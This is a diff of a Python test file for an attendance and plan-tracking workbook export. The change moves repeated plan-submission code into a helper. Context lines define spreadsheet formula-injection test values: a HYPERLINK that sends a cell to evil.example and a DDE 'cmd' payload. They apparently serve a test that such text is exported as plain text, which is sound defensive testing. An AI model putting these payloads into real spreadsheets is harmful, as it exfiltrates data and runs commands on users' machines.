@@ -40,16 +40,7 @@ def attended(setup: Setup) -> None:
     session = services.create_makeup_session(None, setup.point_xa, held_on=dt.date(2025, 9, 15))
     services.makeup_check_in(None, session, binh, received_at=local(session.held_on, 9))
     services.record_absence(None, dung, reason="Ốm")
-    services.submit_plan(
-        None,
-        setup.campaign,
-        world.xa1,
-        symbol="03-KH/CB",
-        issued_on=dt.date(2025, 9, 12),
-        actions_text="Quán triệt | Bí thư | 20/09/2025",
-        file_data=b"Ke hoach thuc hien",
-        file_name="kh.txt",
-    )
+    submit_xa1_plan(setup)
 
 
 def test_the_workbook_counts_attendance_by_point_and_unit_and_plans_by_unit(setup: Setup) -> None:
@@ -148,21 +139,25 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?u="&A5,"Chi bộ thôn Tây")'
 CALC = "=cmd|' /C calc'!A0"
 
 
-def invited_with_a_plan(setup: Setup) -> None:
-    """Delegates at both points and XA1's plan, without check-ins (their time window is not at stake)."""
-    world = setup.world
-    setup.invite(setup.point_xa, world.m_xa1, world.m_xa2)
-    setup.invite(setup.point_xb, world.m_xb1)
+def submit_xa1_plan(setup: Setup) -> None:
     services.submit_plan(
         None,
         setup.campaign,
-        world.xa1,
+        setup.world.xa1,
         symbol="03-KH/CB",
         issued_on=dt.date(2025, 9, 12),
         actions_text="Quán triệt | Bí thư | 20/09/2025",
         file_data=b"Ke hoach thuc hien",
         file_name="kh.txt",
     )
+
+
+def invited_with_a_plan(setup: Setup) -> None:
+    """Delegates at both points and XA1's plan, without check-ins (their time window is not at stake)."""
+    world = setup.world
+    setup.invite(setup.point_xa, world.m_xa1, world.m_xa2)
+    setup.invite(setup.point_xb, world.m_xb1)
+    submit_xa1_plan(setup)
 
 
 def test_point_unit_and_plan_text_that_looks_like_a_formula_is_written_as_text(setup: Setup) -> None:
